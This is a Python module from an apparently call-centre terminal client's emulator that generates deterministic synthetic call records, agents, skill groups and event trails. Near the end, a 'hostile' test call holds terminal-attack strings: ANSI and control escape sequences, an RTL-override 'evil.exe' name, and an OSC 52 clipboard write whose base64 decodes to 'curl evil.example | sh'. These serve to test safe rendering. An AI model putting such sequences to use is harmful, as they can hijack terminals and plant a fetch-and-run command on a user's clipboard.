"""The emulator's deterministic call data: the two seed examples verbatim plus generated calls.

Generated calls are made per UTC day from `random.Random(f"{seed}:…")`, so a call keeps its id and
its content whatever the anchor (a contact looked up yesterday still resolves today while it is in
the 30-day window). Nothing is generated eagerly: a day's index (start times and ids) is built on
first use, a call's summary when it is first listed, and its events only when they are asked for.

Shapes follow the 2017-07-05 JSON (which is derived from the XML): lists are wrapped in an object
named after the XML item element. Event `TimeStamp` and `Data.StartTime` are strings of epoch ms;
a recording's `StartTime` is a number, as in the seeds.

An unknown contact is not an error: its timeline is `{"Events": {"CallEventDetail": []}}` (a Java
DTO with null fields serialises without them) and its recordings an empty list.
"""

from __future__ import annotations

import bisect
import functools
import random
import time
from collections import OrderedDict
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, NamedTuple

from ccc_tui.emulator import DEMO_INSTANCE_ID

# A second instance the demo user can see; it has no calls and no recording storage.
SECOND_INSTANCE_ID = "5b1e0c7a-3f2d-4e69-8a41-d2c7f09b6e13"

CST = timezone(timedelta(hours=8), "CST")  # the service's own time zone (Asia/Shanghai)
WINDOW_DAYS = 30
DAY_MS = 86_400_000

CONTACT_TYPES = ("Inbound", "Outbound", "Back2Back", "PredictiveDial", "PrivacyDial")
DISPOSITIONS = (
    "Success",
    "NoAnswer",
    "AbandonedInContactFlow",
    "AbandonedInQueue",
    "AbandonedRing",
    "QueueOverflow",
    "OneStepTransfer",
)

# --- the seed examples, verbatim (key order included) ----------------------------------------

SEED_EVENTS_CONTACT_ID = "1096645650"
SEED_EVENTS_REQUEST_ID = "7BEEA660-A45A-45E3-98CC-AFC65E715C23"
SEED_EVENTS_DATA: dict[str, Any] = {
    "Caller": "80315543",
    "Callee": "13501215646",
    "CallType": "Outbound",
    "ReleaseAgent": "agent",
    "ReleaseReason": "487-Request Terminated",
    "Events": {
        "CallEventDetail": [
            {
                "TimeStamp": "1555492246000",
                "Status": "Dialing",
                "AgentName": "cloudcallcenter",
                "Event": "Dial",
                "Duration": 9,
                "DetailData": {"EventType": "agent"},
                "CallMode": "Outbound",
            },
            {
                "TimeStamp": "1555492259000",
                "Status": "Handling",
                "AgentName": "cloudcallcenter",
                "Event": "End",
                "Duration": 16,
                "DetailData": {"HangUper": "byeSystem", "EventType": "agent"},
                "CallMode": "Outbound",
            },
            {
                "TimeStamp": "1555492259000",
                "AgentName": "cloudcallcenter",
                "Event": "Handle",
                "Duration": 0,
                "DetailData": {"EventType": "agent"},
                "CallMode": "Outbound",
            },
        ]
    },
    "StartTime": "1555492246000",
}

SEED_RECORDING_CONTACT_ID = "2020927020"
SEED_RECORDINGS_REQUEST_ID = "0997CE25-94D3-41DE-8C7A-E6FCFD8C01E0"
SEED_RECORDING: dict[str, Any] = {
    "FileDescription": "20180711125511-小芳",
    "AgentName": "小芳",
    "CalledNumber": "15588886666",
    "CallingNumber": "80327683",
    "FileName": "153128491143400080327683.wav",
    "Duration": 10,
    "ContactId": "2020927020",
    "StartTime": 1531284911000,
    "AgentId": "293939422320312215",
    "ContactType": "Outbound",
}

# Named calls for tests, docs and demos. The generated ids carry a check digit these fail, so a
# showcase id can never collide with a generated one.
SHOWCASE: dict[str, str] = {
    "seed_outbound": SEED_EVENTS_CONTACT_ID,
    "seed_recording": SEED_RECORDING_CONTACT_ID,
    "inbound_success": "2504107725",
    "inbound_transfer": "2504318862",
    "abandoned_in_queue": "2504417305",
    "abandoned_ring": "2504520981",
    "overflow": "2504638847",
    "call_for_help": "2504712263",
    "outbound_dial": "2504803516",
    "outbound_no_answer": "2504856124",
    "meeting": "2504911734",
    "privacy_dial": "2504937408",
    "huge": "2504999010",
    "hostile": "2505066613",
}

HUGE_EVENT_COUNT = 10_000

# --- vocabulary --------------------------------------------------------------------------------


class Agent(NamedTuple):
    name: str
    login: str
    ram_id: str  # the AgentId of recordings: the RAM sub-account id
    groups: tuple[int, ...]  # indexes into SKILL_GROUPS

    @property
    def user_id(self) -> str:
        return f"{self.login}@ccc-demo"


class SkillGroup(NamedTuple):
    name: str
    group_id: str
    description: str


SKILL_GROUPS: tuple[SkillGroup, ...] = (
    SkillGroup("售后服务组", "4c0c8a8e-6a3d-4f6e-9a4b-1f2e3d4c5b6a", "售后维修与退换货"),
    SkillGroup("售前咨询组", "7d2b1e9f-0c4a-4b8d-8e7f-2a3b4c5d6e7f", "产品与价格咨询"),
    SkillGroup("投诉处理组", "a1f3c5e7-9b2d-4f6a-8c0e-3b5d7f9a1c3e", "客户投诉与升级"),
    SkillGroup("VIP客户组", "b2e4d6f8-0a1c-4e3b-9d5f-4c6e8a0b2d4f", "VIP 专线"),
    SkillGroup("技术支持组", "c3f5e7a9-1b2d-4f4c-8e6a-5d7f9b1c3e5a", "二线技术支持"),
    SkillGroup("Billing Support", "d4a6f8b0-2c3e-4a5d-9f7b-6e8a0c2d4f6b", "Invoices and refunds"),
    SkillGroup(
        "English Hotline", "e5b7a9c1-3d4f-4b6e-8a8c-7f9b1d3e5a7c", "International customers"
    ),
    SkillGroup("测试", "f6c8b0d2-4e5a-4c7f-9b9d-8a0c2e4f6b8d", "测试技能组"),
    SkillGroup("夜间值班组", "07d9c1e3-5f6b-4d8a-8cae-9b1d3f5a7c9e", "22:00–08:00 overflow"),
)
_OUTBOUND_GROUPS = (0, 1, 3, 5)

AGENTS: tuple[Agent, ...] = (
    Agent("小芳", "xiaofang", "293939422320312215", (0, 1, 3)),
    Agent("cloudcallcenter", "cloudcallcenter", "293939422320300001", (7, 0)),
    Agent("王伟", "wangwei", "293939422320312307", (0, 2, 4)),
    Agent("李娜", "lina", "293939422320312419", (1, 3)),
    Agent("张敏", "zhangmin", "293939422320312526", (0, 2)),
    Agent("刘洋", "liuyang", "293939422320312631", (4, 8)),
    Agent("陈静", "chenjing", "293939422320312744", (1, 0, 8)),
    Agent("赵磊", "zhaolei", "293939422320312850", (2, 4)),
    Agent("黄丽", "huangli", "293939422320312963", (3, 5)),
    Agent("Alice Chen", "alice.chen", "293939422320313072", (5, 6)),
    Agent("Bob Li", "bob.li", "293939422320313188", (6, 4)),
    Agent("Carlos Gómez", "carlos.gomez", "293939422320313291", (6, 5)),
    Agent("Diana Wu", "diana.wu", "293939422320313305", (1, 6, 8)),
    Agent("Emma Zhang", "emma.zhang", "293939422320313417", (0, 5)),
    Agent("Kevin Wang", "kevin.wang", "293939422320313520", (4, 2, 7)),
)
_MEMBERS: tuple[tuple[int, ...], ...] = tuple(
    tuple(i for i, a in enumerate(AGENTS) if g in a.groups) for g in range(len(SKILL_GROUPS))
)

_GROUP_AGENTS: dict[str, tuple[Agent, ...]] = {
    g.name: tuple(AGENTS[i] for i in _MEMBERS[n]) for n, g in enumerate(SKILL_GROUPS)
}

CENTER_NUMBERS = ("80315543", "80327683", "02160791234", "4008001234")
_MOBILE_PREFIXES = tuple(
    str(p) for p in (*range(130, 140), 150, 151, 152, 155, 158, 159, 176, 177, 180, 185, 186, 188)
)

# SIP release reasons: (text, weight) per situation.
_REASON_TALK = (("200-OK", 20),)
_REASON_CANCEL = (("487-Request Terminated", 10),)
_REASON_NO_ANSWER = (
    ("480-Temporarily Unavailable", 6),
    ("486-Busy Here", 5),
    ("487-Request Terminated", 5),
    ("408-Request Timeout", 3),
    ("603-Decline", 3),
    ("404-Not Found", 1),
    ("503-Service Unavailable", 1),
)

# Hour-of-day weights in the service's zone: a business-hours call centre with a quiet night.
_HOUR_WEIGHTS = (1, 1, 1, 1, 1, 2, 4, 8, 14, 18, 18, 16, 12, 15, 18, 18, 16, 14, 10, 8, 6, 4, 2, 1)
_HOUR_CUM = tuple(sum(_HOUR_WEIGHTS[: i + 1]) for i in range(24))

# scenario name -> weight among generated calls
_SCENARIO_WEIGHTS: dict[str, int] = {
    "inbound": 26,
    "inbound_waiting": 10,
    "inbound_giveup": 5,
    "ivr_abandon": 7,
    "abandoned_in_queue": 7,
    "abandoned_ring": 5,
    "overflow_end": 3,
    "overflow_answered": 3,
    "transfer": 5,
    "call_for_help": 3,
    "meeting": 2,
    "outbound": 12,
    "outbound_no_answer": 6,
    "back2back": 2,
    "predictive": 3,
    "privacy": 2,
}
_SCENARIOS = tuple(_SCENARIO_WEIGHTS)
_SCENARIO_CUM = tuple(
    sum(list(_SCENARIO_WEIGHTS.values())[: i + 1]) for i in range(len(_SCENARIOS))
)


# --- a call --------------------------------------------------------------------------------------


class CallSummary(NamedTuple):
    """What a CDR row needs: everything about a call except its event trail."""

    contact_id: str
    start_ms: int
    duration: int  # seconds, start to hang-up
    contact_type: str
    disposition: str
    calling_number: str
    called_number: str
    customer_number: str
    center_number: str
    agents: tuple[tuple[str, str], ...]  # (name, ram id) in order of appearance
    skill_groups: tuple[tuple[str, str], ...]  # (name, id)
    satisfaction: int
    satisfaction_desc: str
    feedback: str
    recordings: tuple[dict[str, Any], ...]
    scenario: str

    def matches_text(self, needle: str) -> bool:
        needle = needle.casefold()
        return (
            needle in self.customer_number.casefold()
            or any(needle in name.casefold() for name, _ in self.agents)
            or any(needle in name.casefold() for name, _ in self.skill_groups)
        )


# (description, score), repeated by weight
_SATISFACTION = (
    (("满意", 1),) * 40 + (("一般", 2),) * 8 + (("不满意", 3),) * 7 + (("未评价", 0),) * 25
)


@functools.cache
def _expand(table: tuple[tuple[str, int], ...]) -> tuple[str, ...]:
    """A weighted table as a flat tuple, so one uniform draw picks by weight."""
    return tuple(text for text, weight in table for _ in range(weight))


class _Builder:
    """Accumulates one call's trail. With emit=False it computes the summary only: every random
    draw happens in both modes, so the two always agree."""

    def __init__(self, rng: random.Random, contact_id: str, start_ms: int, emit: bool) -> None:
        self.rng = rng
        self.contact_id = contact_id
        self.start_ms = start_ms
        self.emit = emit
        self.t = 0  # seconds since start
        self.end_t = 0
        self.events: list[dict[str, Any]] = []
        self.agents: dict[str, Agent] = {}
        self.groups: dict[str, SkillGroup] = {}
        self.recordings: list[dict[str, Any]] = []
        self.mode = "Inbound"
        self.contact_type = "Inbound"
        self.disposition = "Success"
        self.caller = ""
        self.callee = ""
        self.privacy_number = ""
        self.release_agent = "customer"
        self.release_reason = "200-OK"
        self.satisfaction: tuple[str, int] | None = None
        self.feedback = ""
        self.extra_data: dict[str, Any] = {}
        self.scenario = ""
        self._scratch: dict[str, Any] = {}

    # Draws through random() only: randint/choice cost several times more per call.
    def ri(self, lo: int, hi: int) -> int:
        return lo + int(self.rng.random() * (hi - lo + 1))

    def pick(self, seq: Any) -> Any:
        return seq[int(self.rng.random() * len(seq))]

    # vocabulary draws
    def group(self, choices: tuple[int, ...] | None = None) -> SkillGroup:
        idx = self.pick(choices) if choices else int(self.rng.random() * 8)
        return SKILL_GROUPS[idx]

    def agent_in(self, group: SkillGroup, exclude: tuple[Agent, ...] = ()) -> Agent:
        members = _GROUP_AGENTS.get(group.name, AGENTS)
        if exclude:
            members = tuple(a for a in members if a not in exclude) or tuple(
                a for a in AGENTS if a not in exclude
            )
        return self.pick(members)

    def customer(self) -> str:
        if self.rng.random() < 0.85:
            return self.pick(_MOBILE_PREFIXES) + f"{int(self.rng.random() * 1e8):08d}"
        return self.pick(("010", "021", "0571", "0755")) + f"{int(self.rng.random() * 1e8):08d}"

    def reason(self, table: tuple[tuple[str, int], ...]) -> str:
        return self.pick(_expand(table))

    # the trail
    def ev(
        self,
        event: str,
        duration: int,
        lane: str,
        *,
        status: str = "",
        agent: Agent | None = None,
        group: SkillGroup | None = None,
        at: int | None = None,
        **detail: str,
    ) -> dict[str, Any]:
        when = self.t if at is None else at
        self.end_t = max(self.end_t, when)
        if agent is not None:
            self.agents.setdefault(agent.name, agent)
        if group is not None:
            self.groups.setdefault(group.name, group)
        if not self.emit:
            return self._scratch
        data: dict[str, Any] = {}
        if "HangUper" in detail:  # the seed puts HangUper first
            data["HangUper"] = detail.pop("HangUper")
        data["EventType"] = lane
        if group is not None:
            data["SkillGroup"] = group.name
        data.update(detail)
        item: dict[str, Any] = {"TimeStamp": str(self.start_ms + when * 1000)}
        if status:
            item["Status"] = status
        if agent is not None:
            item["AgentName"] = agent.name
        item["Event"] = event
        item["Duration"] = duration
        item["DetailData"] = data
        item["CallMode"] = self.mode
        self.events.append(item)
        return item

    def extras(self) -> dict[str, str]:
        """Now and then a detail key no client knows, as the real service adds them."""
        roll = self.rng.random()
        if roll < 0.06:
            return {"ChannelId": f"ch-{self.rng.getrandbits(48):012x}"}
        if roll < 0.09:
            return {"TraceId": f"{self.rng.getrandbits(64):016x}", "Retry": "0"}
        return {}

    def ivr(self) -> None:
        d = self.ri(6, 40)
        more = {"IvrName": self.pick(("主菜单", "Main menu", "按键导航"))} if d > 30 else {}
        self.ev("EnterIVR", d, "ivr", **more, **self.extras())
        self.t += d

    def talk(self, agent: Agent, group: SkillGroup | None, seconds: int) -> None:
        self.ev("Talk", seconds, "agent", status="Talking", agent=agent, group=group)
        self.record(agent, seconds)
        self.t += seconds

    def record(self, agent: Agent, seconds: int) -> None:
        start_ms = self.start_ms + self.t * 1000
        file_ms = start_ms + int(self.rng.random() * 1000)
        digits = "".join(filter(str.isdigit, self.caller))[-11:]
        stamp = time.strftime("%Y%m%d%H%M%S", time.gmtime(start_ms // 1000 + 8 * 3600))
        rec: dict[str, Any] = {
            "FileDescription": f"{stamp}-{agent.name}",
            "AgentName": agent.name,
            "CalledNumber": self.callee,
            "CallingNumber": self.caller,
            "FileName": f"{file_ms}{digits:0>11}.wav",
            "Duration": seconds,
            "ContactId": self.contact_id,
            "StartTime": start_ms,
            "AgentId": agent.ram_id,
            "ContactType": self.contact_type,
        }
        if self.rng.random() < 0.3:
            rec["QualityCheckTaskId"] = _uuid(self.rng)
            rec["QualityCheckTid"] = _uuid(self.rng)
        self.recordings.append(rec)

    def end(self, agent: Agent, group: SkillGroup | None, hang_upper: str, survey: bool) -> None:
        acw = self.ri(3, 30)
        detail: dict[str, str] = {"HangUper": hang_upper}
        if survey:
            desc, score = self.pick(_SATISFACTION)
            detail["SatisfactionalResearch"] = desc
            self.satisfaction = (desc, score)
            if score == 3 and self.rng.random() < 0.5:
                self.feedback = self.pick(("等待时间太长", "问题没有解决", "Agent was rude"))
        self.ev("End", acw, "agent", status="Handling", agent=agent, group=group, **detail)
        self.ev("Handle", 0, "agent", agent=agent, group=group)
        self.release_agent = "agent" if hang_upper == "agent" else "customer"

    def summary(self, scenario: str) -> CallSummary:
        inbound = self.contact_type == "Inbound"
        customer = self.caller if inbound else self.callee
        center = self.callee if inbound else self.caller
        desc, score = self.satisfaction or ("未发送", 0)
        return CallSummary(
            contact_id=self.contact_id,
            start_ms=self.start_ms,
            duration=max(self.end_t, self.t),
            contact_type=self.contact_type,
            disposition=self.disposition,
            calling_number=self.caller,
            called_number=self.callee,
            customer_number=customer,
            center_number=center,
            agents=tuple((a.name, a.ram_id) for a in self.agents.values()),
            skill_groups=tuple((g.name, g.group_id) for g in self.groups.values()),
            satisfaction=score,
            satisfaction_desc=desc,
            feedback=self.feedback,
            recordings=tuple(self.recordings),
            scenario=scenario,
        )

    def data(self) -> dict[str, Any]:
        out: dict[str, Any] = {
            "Caller": self.caller,
            "Callee": self.callee,
            "CallType": self.mode if self.contact_type != "PrivacyDial" else "Outbound",
        }
        if self.privacy_number:
            out["PrivacyNumber"] = self.privacy_number
        out["ReleaseAgent"] = self.release_agent
        out["ReleaseReason"] = self.release_reason
        # A stable sort: events that share a timestamp keep the order they happened in.
        self.events.sort(key=lambda e: int(e["TimeStamp"]))
        out["Events"] = {"CallEventDetail": self.events}
        out["StartTime"] = str(self.start_ms)
        out.update(self.extra_data)
        return out


def _uuid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032X}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{h[16:20]}-{h[20:]}"


# --- scenarios ------------------------------------------------------------------------------------


def _inbound_start(b: _Builder) -> None:
    b.mode = b.contact_type = "Inbound"
    b.caller = b.customer()
    b.callee = b.pick(CENTER_NUMBERS)


def _queue_to_agent(
    b: _Builder, group: SkillGroup, *, waiting: bool, giveups: int
) -> tuple[Agent, dict[str, Any]]:
    """EnterQueue → (WaitingInQueue) → (Ring → GiveUp)* → Ring; returns the ringing agent and
    the EnterQueue event, whose duration the caller fixes once the call leaves the queue."""
    q0 = b.t
    queued = b.ev("EnterQueue", 0, "queue", group=group, **b.extras())
    if waiting:
        b.t += b.ri(1, 3)
        wait = b.ri(20, 300)
        b.ev("WaitingInQueue", wait, "queue", group=group)
        b.t += wait
    else:
        b.t += b.ri(1, 15)
    tried: tuple[Agent, ...] = ()
    for _ in range(giveups):
        agent = b.agent_in(group, tried)
        tried += (agent,)
        ring = b.ri(10, 25)
        b.ev("Ring", ring, "agent", status="Ringing", agent=agent, group=group)
        b.t += ring
        b.ev("GiveUp", 0, "agent", agent=agent, group=group)
        b.t += b.ri(1, 8)
    agent = b.agent_in(group, tried)
    queued["Duration"] = b.t - q0  # provisional: until the last ring starts
    return agent, queued


def _answered(
    b: _Builder, agent: Agent, group: SkillGroup, queued: dict[str, Any], q0: int
) -> None:
    ring = b.ri(2, 12)
    b.ev("Ring", ring, "agent", status="Ringing", agent=agent, group=group)
    b.t += ring
    queued["Duration"] = b.t - q0
    b.ev("NormalEnd", 0, "queue", group=group)


def _sc_inbound(b: _Builder, *, waiting: bool = False, giveups: int = 0) -> None:
    _inbound_start(b)
    group = b.group()
    b.ivr()
    q0 = b.t
    agent, queued = _queue_to_agent(b, group, waiting=waiting, giveups=giveups)
    _answered(b, agent, group, queued, q0)
    b.talk(agent, group, b.ri(15, 900))
    hang = b.pick(("customer", "customer", "agent", "byeSystem"))
    b.end(agent, group, hang, survey=b.rng.random() < 0.7)
    b.release_reason = b.reason(_REASON_TALK)


def _sc_ivr_abandon(b: _Builder) -> None:
    _inbound_start(b)
    b.ivr()
    b.disposition = "AbandonedInContactFlow"
    b.release_agent = "customer"
    b.release_reason = b.reason(_REASON_TALK + _REASON_CANCEL)


def _sc_abandoned_in_queue(b: _Builder) -> None:
    _inbound_start(b)
    group = b.group()
    b.ivr()
    q0 = b.t
    queued = b.ev("EnterQueue", 0, "queue", group=group)
    b.t += b.ri(1, 3)
    wait = b.ri(15, 420)
    b.ev("WaitingInQueue", wait, "queue", group=group)
    b.t += wait
    queued["Duration"] = b.t - q0
    b.ev("AbandonedInQueue", 0, "queue", group=group)
    b.disposition = "AbandonedInQueue"
    b.release_agent = "customer"
    b.release_reason = "200-OK"


def _sc_abandoned_ring(b: _Builder) -> None:
    _inbound_start(b)
    group = b.group()
    b.ivr()
    q0 = b.t
    agent, queued = _queue_to_agent(b, group, waiting=b.rng.random() < 0.4, giveups=0)
    ring = b.ri(3, 20)
    b.ev("Ring", ring, "agent", status="Ringing", agent=agent, group=group)
    b.t += ring
    queued["Duration"] = b.t - q0
    b.ev("AbandonedRing", 0, "queue", agent=agent, group=group)
    b.disposition = "AbandonedRing"
    b.release_agent = "customer"
    b.release_reason = b.reason(_REASON_CANCEL)


def _sc_overflow(b: _Builder, *, answered: bool) -> None:
    _inbound_start(b)
    first = b.group()
    b.ivr()
    q0 = b.t
    queued = b.ev("EnterQueue", 0, "queue", group=first)
    b.t += b.ri(1, 3)
    wait = b.ri(60, 180)
    b.ev("WaitingInQueue", wait, "queue", group=first)
    b.t += wait
    queued["Duration"] = b.t - q0
    b.ev("ACDOverflow", 0, "queue", group=first, OverflowTo="夜间值班组" if answered else "")
    if not answered:
        notice = b.ri(5, 20)
        b.ev("EnterIVR", notice, "ivr", IvrName="溢出提示音")
        b.t += notice
        b.disposition = "QueueOverflow"
        b.release_agent = "agent"
        b.release_reason = "200-OK"
        return
    second = SKILL_GROUPS[8]
    q1 = b.t
    agent, queued2 = _queue_to_agent(b, second, waiting=False, giveups=0)
    _answered(b, agent, second, queued2, q1)
    b.talk(agent, second, b.ri(30, 600))
    b.end(agent, second, "customer", survey=b.rng.random() < 0.5)
    b.release_reason = "200-OK"


def _sc_transfer(b: _Builder) -> None:
    _inbound_start(b)
    group = b.group()
    b.ivr()
    q0 = b.t
    first, queued = _queue_to_agent(b, group, waiting=False, giveups=0)
    _answered(b, first, group, queued, q0)
    b.talk(first, group, b.ri(20, 240))
    target_group = b.group(tuple(i for i in range(8) if SKILL_GROUPS[i] != group))
    second = b.agent_in(target_group, (first,))
    b.ev(
        "LaunchTransfer",
        0,
        "agent",
        status="Talking",
        agent=first,
        group=group,
        TransferTo=second.name,
        TransferType="OneStepTransfer",
    )
    b.ev("End", b.ri(3, 20), "agent", status="Handling", agent=first, group=group, HangUper="agent")
    b.ev("Handle", 0, "agent", agent=first, group=group)
    ring = b.ri(2, 10)
    b.ev("Ring", ring, "agent", status="Ringing", agent=second, group=target_group)
    b.t += ring
    b.talk(second, target_group, b.ri(30, 600))
    b.end(second, target_group, b.pick(("customer", "agent")), survey=b.rng.random() < 0.6)
    b.disposition = "OneStepTransfer"
    b.release_reason = "200-OK"


def _sc_call_for_help(b: _Builder) -> None:
    _inbound_start(b)
    group = b.group()
    b.ivr()
    q0 = b.t
    agent, queued = _queue_to_agent(b, group, waiting=b.rng.random() < 0.3, giveups=0)
    _answered(b, agent, group, queued, q0)
    before = b.ri(30, 200)
    helper = b.agent_in(b.group(), (agent,))
    talk_start = b.t
    b.ev("Talk", 0, "agent", status="Talking", agent=agent, group=group)
    b.record(agent, 0)
    b.t += before
    ring = b.ri(3, 12)
    b.ev(
        "CallForHelp", ring, "agent", status="Talking", agent=agent, group=group, Helper=helper.name
    )
    b.t += ring
    joined = b.ri(30, 240)
    b.ev(
        "CallForHelpSuccess",
        joined,
        "agent",
        status="Talking",
        agent=helper,
        group=group,
        Helper=helper.name,
    )
    b.ev(
        "SetUpMeeting",
        joined,
        "agent",
        status="Talking",
        agent=agent,
        group=group,
        Helper=helper.name,
        MeetingMembers=f"{agent.name},{helper.name}",
    )
    b.t += joined + b.ri(10, 120)
    _fix_talk(b, agent, talk_start)
    b.end(agent, group, "customer", survey=b.rng.random() < 0.7)
    b.release_reason = "200-OK"


def _fix_talk(b: _Builder, agent: Agent, talk_start: int) -> None:
    """Set the length of a talk leg that was left open while other things happened."""
    seconds = b.t - talk_start
    b.recordings[-1]["Duration"] = seconds
    for item in reversed(b.events):
        if item["Event"] == "Talk" and item.get("AgentName") == agent.name:
            item["Duration"] = seconds
            break


def _sc_meeting(b: _Builder) -> None:
    _inbound_start(b)
    group = b.group()
    b.ivr()
    q0 = b.t
    agent, queued = _queue_to_agent(b, group, waiting=False, giveups=0)
    _answered(b, agent, group, queued, q0)
    talk_start = b.t
    b.ev("Talk", 0, "agent", status="Talking", agent=agent, group=group)
    b.record(agent, 0)
    b.t += b.ri(20, 120)
    guest = b.customer()
    meeting = b.ri(60, 600)
    b.ev(
        "SetUpMeeting",
        meeting,
        "agent",
        status="Talking",
        agent=agent,
        group=group,
        MeetingMembers=f"{agent.name},{guest}",
    )
    b.t += meeting
    _fix_talk(b, agent, talk_start)
    b.end(agent, group, "agent", survey=False)
    b.release_reason = "200-OK"


def _outbound_start(b: _Builder, contact_type: str = "Outbound") -> tuple[Agent, SkillGroup]:
    b.mode = "Outbound"
    b.contact_type = contact_type
    group = b.group(_OUTBOUND_GROUPS)
    agent = b.agent_in(group)
    b.caller = b.pick(CENTER_NUMBERS)
    b.callee = b.customer()
    return agent, group


def _sc_outbound(b: _Builder, *, answered: bool, contact_type: str = "Outbound") -> None:
    agent, group = _outbound_start(b, contact_type)
    if contact_type == "PrivacyDial":
        b.privacy_number = "170" + f"{int(b.rng.random() * 1e8):08d}"
    dial = b.ri(4, 30) if answered else b.ri(5, 60)
    b.ev("Dial", dial, "agent", status="Dialing", agent=agent, group=group)
    b.t += dial
    if answered:
        b.talk(agent, group, b.ri(10, 600))
        b.end(agent, group, b.pick(("customer", "agent")), survey=False)
        b.release_reason = "200-OK"
    else:
        b.end(agent, group, "byeSystem", survey=False)
        b.disposition = "NoAnswer"
        b.release_agent = "agent"
        b.release_reason = b.reason(_REASON_NO_ANSWER)


def _sc_back2back(b: _Builder) -> None:
    agent, group = _outbound_start(b, "Back2Back")
    b.mode = "Back2Back"
    ring = b.ri(2, 8)
    b.ev("Ring", ring, "agent", status="Ringing", agent=agent, group=group)
    b.t += ring
    dial = b.ri(4, 20)
    b.ev("Dial", dial, "agent", status="Dialing", agent=agent, group=group)
    b.t += dial
    b.talk(agent, group, b.ri(20, 400))
    b.end(agent, group, "customer", survey=False)
    b.release_reason = "200-OK"


def _sc_predictive(b: _Builder) -> None:
    _, group = _outbound_start(b, "PredictiveDial")
    b.mode = "PredictiveDial"
    dial = b.ri(4, 25)
    b.ev("Dial", dial, "agent", status="Dialing", group=group, JobGroup="回访任务")
    b.t += dial
    q0 = b.t
    agent, queued = _queue_to_agent(b, group, waiting=False, giveups=0)
    _answered(b, agent, group, queued, q0)
    b.talk(agent, group, b.ri(20, 300))
    b.end(agent, group, b.pick(("customer", "agent")), survey=False)
    b.release_reason = "200-OK"


def _run_scenario(b: _Builder, name: str) -> None:
    # Looked up at call time: the builders are defined further down.
    scenarios: dict[str, Callable[[_Builder], None]] = {
        "inbound": _sc_inbound,
        "inbound_waiting": lambda b: _sc_inbound(b, waiting=True),
        "inbound_giveup": lambda b: _sc_inbound(
            b, waiting=b.rng.random() < 0.5, giveups=b.ri(1, 2)
        ),
        "ivr_abandon": _sc_ivr_abandon,
        "abandoned_in_queue": _sc_abandoned_in_queue,
        "abandoned_ring": _sc_abandoned_ring,
        "overflow_end": lambda b: _sc_overflow(b, answered=False),
        "overflow_answered": lambda b: _sc_overflow(b, answered=True),
        "transfer": _sc_transfer,
        "call_for_help": _sc_call_for_help,
        "meeting": _sc_meeting,
        "outbound": lambda b: _sc_outbound(b, answered=True),
        "outbound_no_answer": lambda b: _sc_outbound(b, answered=False),
        "back2back": _sc_back2back,
        "predictive": _sc_predictive,
        "privacy": lambda b: _sc_outbound(b, answered=True, contact_type="PrivacyDial"),
    }
    scenarios[name](b)


# --- special calls ---------------------------------------------------------------------------------


def _seed_recording_call(b: _Builder) -> None:
    """A plausible trail for the seed recording: 小芳 dials out, talks 10 s, the customer hangs up."""
    agent, group = AGENTS[0], SKILL_GROUPS[0]
    b.mode = b.contact_type = "Outbound"
    b.caller, b.callee = "80327683", "15588886666"
    b.ev("Dial", 6, "agent", status="Dialing", agent=agent, group=group)
    b.t += 6
    b.ev("Talk", 10, "agent", status="Talking", agent=agent, group=group)
    b.t += 10
    b.ev("End", 12, "agent", status="Handling", agent=agent, group=group, HangUper="customer")
    b.ev("Handle", 0, "agent", agent=agent, group=group)
    b.recordings.append(dict(SEED_RECORDING))
    b.release_agent, b.release_reason = "customer", "200-OK"


def _seed_events_call(b: _Builder) -> None:
    """The seed timeline's call, for CDR rows: it has no recordings (the seed gives none)."""
    agent = AGENTS[1]
    b.mode = b.contact_type = "Outbound"
    b.caller, b.callee = "80315543", "13501215646"
    b.agents[agent.name] = agent
    b.end_t = 13
    b.disposition = "NoAnswer"


def _huge_call(b: _Builder) -> None:
    """A call stuck overnight: the queue keeps ringing agents who never answer, 10,000 events."""
    _inbound_start(b)
    b.caller, b.callee = "13900001111", CENTER_NUMBERS[3]
    group = SKILL_GROUPS[8]
    b.ev("EnterIVR", 12, "ivr")
    b.t = 12
    q0 = b.t
    queued = b.ev("EnterQueue", 0, "queue", group=group)
    members = [AGENTS[i] for i in _MEMBERS[8]]
    cycles = (HUGE_EVENT_COUNT - 7) // 3
    for _ in range(cycles):
        wait = b.ri(2, 6)
        b.ev("WaitingInQueue", wait, "queue", group=group)
        b.t += wait
        agent = b.pick(members)
        ring = b.ri(2, 5)
        b.ev("Ring", ring, "agent", status="Ringing", agent=agent, group=group)
        b.t += ring
        b.ev("GiveUp", 0, "agent", agent=agent, group=group)
    agent = AGENTS[5]
    _answered(b, agent, group, queued, q0)
    b.talk(agent, group, 95)
    b.end(agent, group, "customer", survey=True)
    b.release_reason = "200-OK"


_OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
_LONG_GROUP = ("售后服务组-超长名称-" * 60)[:500]
_HOSTILE_AGENTS = (
    Agent("[bold red]x[/]", "markup", "293939422320399901", (0,)),
    Agent("\x1b[31mRed\x1b[0m Agent\x1b[2J", "ansi", "293939422320399902", (0,)),
    Agent("مريم\u202eevil.exe\u202c", "rtl", "293939422320399903", (0,)),
    Agent("王伟👩‍💻🎧 全角ＡＢＣ", "wide", "293939422320399904", (0,)),
)


def _hostile_call(b: _Builder) -> None:
    """Server text that attacks a terminal: markup, escape sequences, controls, RTL, huge names."""
    b.mode = b.contact_type = "Inbound"
    b.caller = "13800138000\x1b[8m"
    b.callee = "4008001234\r\x1b[1A"
    markup, ansi, rtl, wide = _HOSTILE_AGENTS
    long_group = SkillGroup(_LONG_GROUP, "hostile-long-group", "500 characters")
    osc_group = SkillGroup(f"Support{_OSC52}", "hostile-osc52", "clipboard write")
    ctl_group = SkillGroup("nul\x00bell\x07back\x08csi\x9b31m", "hostile-ctl", "controls")
    b.ev("EnterIVR", 8, "ivr", IvrName="[link=https://evil.example]menu[/link]")
    b.t = 8
    b.ev(
        "EnterQueue",
        20,
        "queue",
        group=long_group,
        **{"[b]Key[/b]": "value", "\x1b[1mBoldKey": "x", "Note": "line1\nline2\r\nline3\ttab"},
    )
    b.t += 2
    b.ev("WaitingInQueue", 10, "queue", group=osc_group)
    b.t += 10
    b.ev("Ring", 8, "agent", status="Ringing\x1b[5m", agent=markup, group=ctl_group)
    b.t += 8
    b.ev("NormalEnd", 0, "queue", group=long_group)
    b.ev("Talk", 30, "agent", status="Talking", agent=markup, group=ctl_group)
    b.recordings.append(
        {
            "FileDescription": "20240101120000-[bold red]x[/]\x1b]0;pwned\x07",
            "AgentName": markup.name,
